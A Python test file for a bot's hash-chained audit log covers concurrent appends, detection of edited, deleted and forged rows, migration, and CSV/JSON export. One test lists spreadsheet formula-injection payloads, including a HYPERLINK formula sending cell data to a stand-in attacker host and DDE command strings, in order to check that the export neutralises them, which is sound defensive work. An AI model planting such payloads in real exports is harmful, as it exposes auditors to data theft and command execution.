"""The audit log's hash chain, on SQLite and on PostgreSQL: built under real concurrency, and checked for tampering."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import threading
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from alembic import command
from sqlalchemy import DateTime, Engine, bindparam, insert, select, text
from sqlalchemy.exc import IntegrityError
from sqlalchemy.orm import Session

from bot.rollback.model import Event, EventKind, NewRequest, State, Target
from bot.store import audit, audit_check, export, migrate
from bot.store.audit import GENESIS, AuditChainError, append_event, entry_hash
from bot.store.database import create_schema, make_engine, session_factory
from bot.store.models import AuditChainHeadRow, EventRow, RequestRow
from bot.store.request_store import RequestStore
from tests.support.factories import T0


@pytest.fixture
def store(engine: Engine) -> RequestStore:
    return RequestStore(session_factory(engine))


def open_request(store: RequestStore, appid: str = "wx_app", at: datetime = T0, user: str = "UALICE") -> int:
    new = NewRequest(
        appid=appid,
        channel_id="C1",
        requester_id=user,
        reason="checkout broken",
        online_version="1.2.0",
        target=Target(101, "1.1.0", "stable", 1_700_000_000),
        created_at=at,
        expires_at=at + timedelta(minutes=15),
    )
    return store.create(new, Event(EventKind.REQUESTED, user, at, detail="checkout broken")).id


def rolled_back(store: RequestStore, appid: str = "wx_app", at: datetime = T0) -> int:
    """A request through its whole life: requested, a refused self-approval, approved, rolled back. Four events."""
    request_id = open_request(store, appid, at)
    store.record(request_id, Event(EventKind.REFUSED, "UALICE", at, detail="approve: self_approval"))
    approved = Event(EventKind.APPROVED, "UBOB", at + timedelta(minutes=1))
    assert store.transition(request_id, State.PENDING, State.SENDING, approved, decided_by="UBOB")
    done = Event(EventKind.EXECUTED, None, at + timedelta(minutes=2, microseconds=123456), errcode=0, errmsg="ok")
    assert store.transition(request_id, State.SENDING, State.SUCCEEDED, done, finished_at=at)
    return request_id


def rows(engine: Engine) -> list[EventRow]:
    with Session(engine) as session:
        return list(session.scalars(select(EventRow).order_by(EventRow.id)))


def problem(engine: Engine) -> audit_check.Problem:
    report = audit_check.verify(engine)
    assert report.problem is not None, report
    return report.problem


def sql(engine: Engine, statement: str, **params: Any) -> None:
    with engine.begin() as connection:
        connection.execute(text(statement), params)


def content(row: EventRow) -> dict[str, Any]:
    return {name: getattr(row, name) for name in (*audit.CONTENT_FIELDS, "request_state")}


def forge(engine: Engine, values: dict[str, Any], prev_hash: str, valid: bool = True) -> None:
    """Insert an event behind the store's back: with the hash it would have, or a made-up one."""
    digest = entry_hash(prev_hash, values) if valid else "e" * 64
    with engine.begin() as connection:
        connection.execute(insert(EventRow).values(**values, prev_hash=prev_hash, hash=digest))


# --- the chain


def test_empty_log_verifies(engine: Engine) -> None:
    assert audit_check.verify(engine) == audit_check.VerifyReport(entries=0, head=GENESIS)


def test_each_event_links_to_the_one_before(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    rolled_back(store, "wx_other")
    chain = rows(engine)
    assert [row.id for row in chain] == list(range(1, 9))
    assert chain[0].prev_hash == GENESIS
    for before, row in zip([None, *chain], chain, strict=False):
        assert row.prev_hash == (before.hash if before else GENESIS)
        assert len(row.hash) == 64 and row.hash == entry_hash(row.prev_hash, content(row))
    with Session(engine) as session:
        head = session.get_one(AuditChainHeadRow, 1)
        assert (head.last_id, head.last_hash) == (8, chain[-1].hash)
    assert audit_check.verify(engine) == audit_check.VerifyReport(entries=8, head=chain[-1].hash, requests=2)


def test_hash_is_sha256_of_prev_hash_and_canonical_json(engine: Engine, store: RequestStore) -> None:
    open_request(store)
    row = rows(engine)[0]
    before_0008 = (
        '{"actor_id":"UALICE","app_version":101,"appid":"wx_app","at":"2026-11-29T08:00:00.000000Z",'
        '"detail":"checkout broken","errcode":null,"errmsg":null,"id":1,"kind":"requested","request_id":1'
    )
    assert audit.canonical({**content(row), "request_state": None}) == before_0008 + "}"
    assert audit.canonical(content(row)) == before_0008 + f',"request_state":{json.dumps(row.request_state)}}}'
    assert json.loads(row.request_state or "")["requester_id"] == "UALICE"
    expected = hashlib.sha256((GENESIS + audit.canonical(content(row))).encode()).hexdigest()
    assert row.hash == expected


def test_concurrent_appends_from_threads_and_two_replicas_never_fork(database_url: str) -> None:
    url = database_url
    replicas = [make_engine(url) for _ in range(2)]
    try:
        create_schema(replicas[0])
        stores = [RequestStore(session_factory(engine)) for engine in replicas]
        request_ids = [open_request(stores[0], f"wx_app{n}") for n in range(8)]
        per_thread = 6
        barrier = threading.Barrier(len(request_ids))
        errors: list[BaseException] = []

        def append(n: int, request_id: int) -> None:
            store = stores[n % 2]  # half the threads write through each replica
            barrier.wait()
            try:
                for i in range(per_thread):
                    store.record(request_id, Event(EventKind.REFUSED, f"U{n:03d}", T0, detail=f"click {i}"))
                    if i == 2:  # and a state change, with its event, on every request at the same moment
                        event = Event(EventKind.CANCELLED, "UALICE", T0)
                        assert store.transition(request_id, State.PENDING, State.CANCELLED, event)
            except BaseException as error:
                errors.append(error)

        threads = [threading.Thread(target=append, args=(n, rid)) for n, rid in enumerate(request_ids)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=60)
        assert errors == []
        expected = len(request_ids) * (1 + per_thread + 1)
        report = audit_check.verify(replicas[1])
        assert report.ok, report.problem
        assert report.entries == expected
        chain = rows(replicas[0])
        assert [row.id for row in chain] == list(range(1, expected + 1))
        assert len({row.prev_hash for row in chain}) == expected  # one successor per row: no fork
        assert all(len(stores[0].events(rid)) == 1 + per_thread + 1 for rid in request_ids)
    finally:
        for engine in replicas:
            engine.dispose()


def test_database_refuses_a_fork(engine: Engine, store: RequestStore) -> None:
    open_request(store)
    first = rows(engine)[0]
    with pytest.raises(IntegrityError):
        sql(
            engine,
            "INSERT INTO rollback_events (id, request_id, kind, at, appid, app_version, detail, prev_hash, hash) "
            "VALUES (99, :request_id, 'approved', :at, 'wx_app', 101, '', :prev, :hash)",
            request_id=first.request_id,
            at=T0,
            prev=GENESIS,
            hash="f" * 64,
        )


def test_append_without_a_head_fails_and_records_nothing(engine: Engine, store: RequestStore) -> None:
    request_id = open_request(store)
    sql(engine, "DELETE FROM audit_chain_head")
    with pytest.raises(AuditChainError, match="audit_chain_head"):
        store.record(request_id, Event(EventKind.REFUSED, "UALICE", T0))
    approved = Event(EventKind.APPROVED, "UBOB", T0)
    with pytest.raises(AuditChainError):
        store.transition(request_id, State.PENDING, State.SENDING, approved)
    request = store.get(request_id)
    assert request is not None and request.state is State.PENDING  # the state change went with its event
    assert len(rows(engine)) == 1
    assert problem(engine) == audit_check.Problem(None, "head", "its row (table audit_chain_head, id 1) is missing")


# --- tampering


def test_verify_finds_an_edited_row(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    sql(engine, "UPDATE rollback_events SET detail = 'approve: fine' WHERE id = 2")
    found = problem(engine)
    assert (found.row_id, found.kind) == (2, "edited")
    assert audit_check.verify(engine).entries == 1
    assert str(found).startswith("row 2: its content does not match its hash")


def test_verify_finds_an_edited_time_or_actor(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    sql(engine, "UPDATE rollback_events SET actor_id = 'UMALLORY' WHERE id = 3")
    assert (problem(engine).row_id, problem(engine).kind) == (3, "edited")


def test_verify_finds_an_edited_row_whose_hash_was_recomputed(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    row = rows(engine)[1]
    row.detail = "approve: fine"
    sql(
        engine,
        "UPDATE rollback_events SET detail = :d, hash = :h WHERE id = 2",
        d=row.detail,
        h=entry_hash(row.prev_hash, content(row)),
    )
    found = problem(engine)
    assert (found.row_id, found.kind) == (3, "unlinked")
    assert "row 2 was rewritten" in found.detail


def test_verify_finds_a_deleted_row_in_the_middle(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    sql(engine, "DELETE FROM rollback_events WHERE id = 2")
    found = problem(engine)
    assert (found.row_id, found.kind) == (3, "unlinked")
    assert "rows 2 before it are missing" in found.detail


def test_verify_finds_the_first_row_deleted(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    sql(engine, "DELETE FROM rollback_events WHERE id = 1")
    found = problem(engine)
    assert (found.row_id, found.kind) == (2, "unlinked")
    assert "does not start the chain" in found.detail


def test_verify_finds_the_last_row_deleted(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    sql(engine, "DELETE FROM rollback_events WHERE id = 4")
    found = problem(engine)
    assert (found.row_id, found.kind) == (4, "head")
    assert "the log ends at row 3" in found.detail


def test_verify_finds_every_row_deleted(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    sql(engine, "DELETE FROM rollback_events")
    assert (problem(engine).row_id, problem(engine).kind) == (4, "head")


def test_a_deleted_last_row_stays_found_after_new_appends(engine: Engine, store: RequestStore) -> None:
    request_id = rolled_back(store)
    sql(engine, "DELETE FROM rollback_events WHERE id = 4")
    store.record(request_id, Event(EventKind.REFUSED, "UCAROL", T0))
    found = problem(engine)
    assert found.kind == "unlinked" and found.row_id is not None and found.row_id >= 4


def test_verify_finds_a_forged_row_appended_with_a_valid_hash(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    last = rows(engine)[-1]
    forge(engine, {**content(last), "id": 5, "kind": "approved", "actor_id": "UMALLORY"}, last.hash)
    found = problem(engine)
    assert (found.row_id, found.kind) == (5, "head")
    assert "added around the chain" in found.detail


def test_verify_finds_a_forged_row_appended_with_a_made_up_hash(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    last = rows(engine)[-1]
    forge(engine, {**content(last), "id": 5, "kind": "approved"}, last.hash, valid=False)
    assert (problem(engine).row_id, problem(engine).kind) == (5, "edited")


def test_verify_finds_a_forged_row_put_in_place_of_a_deleted_one(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    chain = rows(engine)
    sql(engine, "DELETE FROM rollback_events WHERE id = 3")
    forge(engine, {**content(chain[2]), "actor_id": "UMALLORY"}, chain[1].hash)
    found = problem(engine)
    assert (found.row_id, found.kind) == (4, "unlinked")
    assert "does not match the hash of row 3" in found.detail


def test_verify_finds_reordered_rows(engine: Engine, store: RequestStore) -> None:
    rolled_back(store)
    sql(engine, "UPDATE rollback_events SET id = 100 WHERE id = 2")
    sql(engine, "UPDATE rollback_events SET id = 2 WHERE id = 3")
    sql(engine, "UPDATE rollback_events SET id = 3 WHERE id = 100")
    found = problem(engine)
    assert (found.row_id, found.kind) == (2, "unlinked")


def rewrite(engine: Engine, first: int, chain: list[EventRow]) -> str:
    """Rows from `first` on deleted and the rest put back with every hash recomputed, head included: the
    rewrite an attacker with the database can make. Returns the new head."""
    sql(engine, "DELETE FROM rollback_events WHERE id >= :first", first=first)
    prev = chain[first - 2].hash
    for row in chain[first:]:
        forge(engine, content(row), prev)
        prev = entry_hash(prev, content(row))
    sql(engine, "UPDATE audit_chain_head SET last_hash = :h", h=prev)
    return prev


def test_a_rewritten_chain_is_found_by_its_anchor(engine: Engine, store: RequestStore) -> None:
    """Rows deleted and the chain rewritten consistently: only a head kept elsewhere gives it away."""
    rolled_back(store)
    chain = rows(engine)
    anchor = chain[-1].hash
    assert audit_check.verify(engine, expect_head=anchor).ok
    assert audit_check.verify(engine, expect_head=chain[1].hash).ok  # an older head stays in the chain
    new_head = rewrite(engine, 2, chain)
    assert audit_check.verify(engine).ok  # ids 2.. missing is no alarm by itself: ids may skip
    found = problem_with(engine, expect_head=anchor)
    assert (found.row_id, found.kind) == (None, "anchor")
    assert f"does not contain the expected head {anchor}" in found.detail
    assert audit_check.verify(engine, expect_head=new_head).ok


def problem_with(engine: Engine, expect_head: str) -> audit_check.Problem:
    report = audit_check.verify(engine, expect_head=expect_head)
    assert report.problem is not None, report
    return report.problem


def test_an_append_that_died_before_commit_is_no_false_alarm(engine: Engine, store: RequestStore) -> None:
    """A killed process, a lost connection, a deadlock: the append's transaction rolls back. On PostgreSQL its id
    is gone for good (nextval is not transactional): the ids skip, and the chain is intact all the same."""
    request_id = rolled_back(store)
    for _ in range(2):
        with pytest.raises(RuntimeError), session_factory(engine).begin() as session:
            request = session.get_one(RequestRow, request_id)
            event = EventRow(request_id=request_id, kind="refused", actor_id="UX", at=T0, appid="wx_app", app_version=1)
            append_event(session, event, request)
            raise RuntimeError("the process died here")
    store.record(request_id, Event(EventKind.REFUSED, "UCAROL", T0))
    ids = [row.id for row in rows(engine)]
    if engine.dialect.name == "postgresql":
        assert ids == [1, 2, 3, 4, 7]
    report = audit_check.verify(engine)
    assert report.ok, report.problem
    assert report.entries == 5 and report.requests == 1


def test_an_inserted_row_is_found_even_where_ids_skip(engine: Engine, store: RequestStore) -> None:
    """A row slipped into a gap (the fork index dropped first), linked to the row before, with a valid hash."""
    rolled_back(store)
    chain = rows(engine)
    sql(engine, "UPDATE rollback_events SET id = id + 10 WHERE id >= 3")  # as if ids 3..12 were never committed
    sql(engine, "DROP INDEX uq_rollback_events_prev_hash")
    forge(engine, {**content(chain[2]), "id": 3, "kind": "approved", "actor_id": "UMALLORY"}, chain[1].hash)
    found = problem(engine)
    assert found.kind in ("unlinked", "edited") and found.row_id in (3, 13)


def test_verify_reads_one_snapshot_while_events_are_appended(engine: Engine, store: RequestStore) -> None:
    request_id = rolled_back(store)
    stop = threading.Event()

    def append() -> None:
        while not stop.is_set():
            store.record(request_id, Event(EventKind.REFUSED, "UCAROL", T0))

    writer = threading.Thread(target=append)
    writer.start()
    try:
        reports = [audit_check.verify(engine) for _ in range(15)]
    finally:
        stop.set()
        writer.join(timeout=30)
    assert all(report.ok for report in reports), [r.problem for r in reports if not r.ok]
    assert audit_check.verify(engine).ok


# --- the requests: what history, status, App Home and the export show must match the chain


@pytest.mark.parametrize(
    ("column", "forged", "field"),
    [
        ("requester_id", "'UMALLORY'", "requester_id"),
        ("decided_by", "'UMALLORY'", "decided_by"),
        ("policy_bypass", "true", "policy_bypass"),
        ("state", "'failed'", "state"),
        ("online_version", "'9.9.9'", "online_version"),
        ("kind", "'stop_gray'", "kind"),  # what its approval would send
        ("created_at", "created_at", "created_at"),  # rewritten to itself: no change, no alarm (checked below)
    ],
)
def test_verify_finds_an_edited_request_row(
    engine: Engine, store: RequestStore, column: str, forged: str, field: str
) -> None:
    request_id = rolled_back(store)
    open_request(store, "wx_other")
    sql(engine, f"UPDATE rollback_requests SET {column} = {forged} WHERE id = :id", id=request_id)
    if column == "created_at":
        assert audit_check.verify(engine).ok
        return
    found = problem(engine)
    assert (found.row_id, found.kind) == (request_id, "request")
    assert str(found) == (
        f"request {request_id}: {field} differs from what its newest event recorded: the request row was edited "
        "behind the bot's back"
    )


def test_verify_finds_a_request_added_around_the_chain(engine: Engine, store: RequestStore) -> None:
    request_id = rolled_back(store)
    sql(
        engine,
        "INSERT INTO rollback_requests (appid, channel_id, requester_id, reason, target_app_version, "
        "target_user_version, target_user_desc, target_commit_time, state, created_at, expires_at, policy_bypass) "
        "SELECT appid, channel_id, 'UMALLORY', reason, target_app_version, target_user_version, target_user_desc, "
        "target_commit_time, 'succeeded', created_at, expires_at, false FROM rollback_requests WHERE id = :id",
        id=request_id,
    )
    found = problem(engine)
    assert (found.row_id, found.kind) == (request_id + 1, "request")
    assert "no event in the chain" in found.detail


def test_bookkeeping_without_events_is_no_false_alarm(engine: Engine, store: RequestStore) -> None:
    """The message's ts, the delivery's counters, a planned re-read: they change with no event, and are not
    what the chain vouches for."""
    request_id = rolled_back(store)
    store.attach_message(request_id, "C2", "1700000000.000100")
    sql(engine, "UPDATE rollback_requests SET shown_revision = 9, posted_through = 4, owner = 'replica-2'")
    assert store.transition(request_id, State.SUCCEEDED, State.SUCCEEDED, None, recheck_at=T0, rechecks=1)
    report = audit_check.verify(engine)
    assert report.ok and report.requests == 1, report.problem


def test_an_audited_change_without_an_event_is_refused(engine: Engine, store: RequestStore) -> None:
    request_id = open_request(store)
    with pytest.raises(ValueError, match="decided_by"):
        store.transition(request_id, State.PENDING, State.PENDING, None, decided_by="UMALLORY")
    with pytest.raises(ValueError, match="the state"):
        store.transition(request_id, State.PENDING, State.CANCELLED, None)
    assert audit_check.verify(engine).ok


# --- an existing database


def test_migration_chains_the_events_of_an_existing_database(database_url: str) -> None:
    url = database_url
    engine = make_engine(url)
    try:
        with engine.begin() as connection:
            command.upgrade(migrate.make_config(url, connection), "0001")
        insert_request = (
            "INSERT INTO rollback_requests (appid, channel_id, requester_id, reason, online_version, "
            "target_app_version, target_user_version, target_user_desc, target_commit_time, state, created_at, "
            "expires_at, policy_bypass) VALUES (:appid, 'C1', 'UALICE', 'r', '1.2.0', 101, '1.1.0', 'd', 1, "
            "'failed', :at, :at, false)"
        )
        insert_event = (
            "INSERT INTO rollback_events (request_id, kind, actor_id, at, appid, app_version, detail, errcode, "
            "errmsg) SELECT id, :kind, :actor, :at, :appid, 101, :detail, :errcode, :errmsg FROM rollback_requests r "
            "WHERE r.appid = :owner"
        )
        at = bindparam("at", type_=DateTime(timezone=True))  # stored as the bot stored it, per backend
        old = datetime(2025, 3, 1, 12, 30, 15, 250000, tzinfo=UTC)
        with engine.begin() as connection:
            for appid in ("wx_app", "wx_other"):
                connection.execute(text(insert_request).bindparams(at), {"appid": appid, "at": old})
                for kind, actor, detail, errcode, errmsg in (
                    ("requested", "UALICE", "结账失败 — broken", None, None),
                    ("approved", "UBOB", "", None, None),
                    ("failed", None, "", 87011, "wxa has a gray release plan, forbid revert release"),
                ):
                    connection.execute(
                        text(insert_event).bindparams(at),
                        {
                            "kind": kind,
                            "actor": actor,
                            "at": old,
                            "appid": appid,
                            "owner": appid,
                            "detail": detail,
                            "errcode": errcode,
                            "errmsg": errmsg,
                        },
                    )
        create_schema(engine)  # what the bot does at start-up: 0001 -> head
        report = audit_check.verify(engine)
        assert report.ok, report.problem
        assert (report.entries, report.requests, report.unchecked) == (6, 0, 2)  # nothing recorded to check by
        chain = rows(engine)
        assert chain[0].prev_hash == GENESIS and chain[0].detail == "结账失败 — broken"

        store = RequestStore(session_factory(engine))
        open_request(store)
        after = audit_check.verify(engine)
        assert after.ok and (after.entries, after.requests, after.unchecked) == (7, 1, 2)
        assert rows(engine)[-1].prev_hash == chain[-1].hash
    finally:
        engine.dispose()


# --- export


@pytest.fixture
def two_apps(store: RequestStore) -> tuple[int, int, int]:
    first = rolled_back(store, "wx_app", T0)
    second = rolled_back(store, "wx_other", T0 + timedelta(days=1))
    third = open_request(store, "wx_app", T0 + timedelta(days=2))
    return first, second, third


def test_export_json_has_every_event_with_its_request(engine: Engine, two_apps: tuple[int, int, int]) -> None:
    records = json.loads(export.export(engine, "json"))
    assert [r["event_id"] for r in records] == list(range(1, 10))
    assert list(records[0]) == list(export.EXPORT_FIELDS)
    assert records[0] == {
        "event_id": 1,
        "at": "2026-11-29T08:00:00.000000Z",
        "kind": "requested",
        "actor_id": "UALICE",
        "detail": "checkout broken",
        "errcode": None,
        "errmsg": None,
        "request_id": two_apps[0],
        "appid": "wx_app",
        "requester_id": "UALICE",
        "online_version": "1.2.0",
        "target_user_version": "1.1.0",
        "target_app_version": 101,
        "state": "succeeded",
        "prev_hash": GENESIS,
        "hash": rows(engine)[0].hash,
    }
    assert records[3]["kind"] == "executed" and records[3]["errcode"] == 0
    assert records[3]["at"] == "2026-11-29T08:02:00.123456Z"
    assert records[8]["state"] == "pending" and records[8]["request_id"] == two_apps[2]
    assert all(r["hash"] == row.hash for r, row in zip(records, rows(engine), strict=True))


def test_export_csv_has_a_header_and_the_same_rows(engine: Engine, two_apps: tuple[int, int, int]) -> None:
    exported = export.export(engine, "csv")
    assert exported.splitlines()[0] == ",".join(export.EXPORT_FIELDS)
    parsed = list(csv.DictReader(io.StringIO(exported)))
    as_json = json.loads(export.export(engine, "json"))
    assert len(parsed) == len(as_json) == 9
    for row, record in zip(parsed, as_json, strict=True):
        assert row == {key: "" if value is None else str(value) for key, value in record.items()}


def test_export_filters_by_time_and_app(engine: Engine, two_apps: tuple[int, int, int]) -> None:
    def ids(**filters: Any) -> list[int]:
        return [r["event_id"] for r in json.loads(export.export(engine, "json", **filters))]

    assert ids(appid="wx_other") == [5, 6, 7, 8]
    assert ids(appid="wx_app") == [1, 2, 3, 4, 9]
    assert ids(since=T0 + timedelta(days=1)) == [5, 6, 7, 8, 9]
    assert ids(since=datetime(2026, 11, 30), appid="wx_app") == [9]  # a naive time is UTC
    assert ids(appid="wx_none") == []
    assert export.export(engine, "csv", appid="wx_none") == ",".join(export.EXPORT_FIELDS) + "\r\n"
    assert export.export(engine, "json", appid="wx_none") == "[]\n"


def test_export_keeps_awkward_text(engine: Engine, store: RequestStore) -> None:
    request_id = open_request(store)
    awkward = 'line one\nline "two", with commas; 回滚 ✓'
    store.record(request_id, Event(EventKind.REFUSED, "UBOB", T0, detail=awkward))
    parsed = list(csv.DictReader(io.StringIO(export.export(engine, "csv"))))
    assert parsed[1]["detail"] == awkward
    assert json.loads(export.export(engine, "json"))[1]["detail"] == awkward
    assert audit_check.verify(engine).ok


@pytest.mark.parametrize(
    "reason",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"incident doc")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\n=1+1",
        '\u3000 =HYPERLINK("https://evil.example")',
        '\uff1dHYPERLINK("https://evil.example")',  # full-width, as a Chinese input method types it
        "\uff0b1+1",
        "\uff0d2+3",
        "\uff20SUM(1+1)",
    ],
)
def test_csv_export_neutralises_formulas_and_json_stays_exact(engine: Engine, store: RequestStore, reason: str) -> None:
    """A reason a spreadsheet would run as a formula when an auditor opens the CSV: it reads as text instead."""
    request_id = open_request(store)
    store.record(request_id, Event(EventKind.REFUSED, "UBOB", T0, detail=reason))
    parsed = list(csv.DictReader(io.StringIO(export.export(engine, "csv"))))
    assert parsed[1]["detail"] == "'" + reason
    assert json.loads(export.export(engine, "json"))[1]["detail"] == reason
    assert parsed[1]["errcode"] == "" and parsed[0]["detail"] == "checkout broken"  # the rest as it was


def test_csv_export_keeps_numbers_as_numbers(engine: Engine, store: RequestStore) -> None:
    request_id = open_request(store)
    store.record(request_id, Event(EventKind.FAILED, None, T0, detail="busy", errcode=-1, errmsg="system error"))
    assert list(csv.DictReader(io.StringIO(export.export(engine, "csv"))))[1]["errcode"] == "-1"
